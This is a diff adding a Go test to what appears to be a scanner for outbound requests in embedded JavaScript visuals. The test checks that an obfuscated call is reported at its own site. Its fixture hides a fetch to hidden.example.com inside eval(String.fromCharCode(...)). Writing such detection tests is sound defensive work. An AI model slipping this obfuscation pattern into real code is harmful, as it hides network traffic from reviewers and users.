@@ -377,3 +377,25 @@ func TestReportDataLeavingTheVisual(t *testing.T) {
 		t.Errorf("dynamic.requests:\n%s\nwant\n%s", strings.Join(reqs, "\n"), strings.Join(wantReqs, "\n"))
 	}
 }
+
+// Two call sites near one static finding: the call at the finding
+// confirms it, and a hidden request a line away is reported at its own
+// site with its own target (it used to be folded into the static finding,
+// its URL lost from the findings).
+func TestNearbyCallSitesKeepTheirTargets(t *testing.T) {
+	hidden := `fetch("https://hidden.example.com/h")`
+	var codes []string
+	for _, c := range []byte(hidden) {
+		codes = append(codes, strconv.Itoa(int(c)))
+	}
+	r, rep := checked(t, visual("", `        fetch("https://static.example.com/s");
+        eval(String.fromCharCode(`+strings.Join(codes, ",")+`));`))
+	requireAll(t, rep)
+	got := map[string]bool{}
+	for _, f := range observed(r, "NET001") {
+		got[f.Runtime.Target] = f.Runtime.Observed
+	}
+	if len(got) != 2 || got["https://static.example.com/s"] || !got["https://hidden.example.com/h"] {
+		t.Errorf("NET001 targets (true: only the run found it): %v", got)
+	}
+}
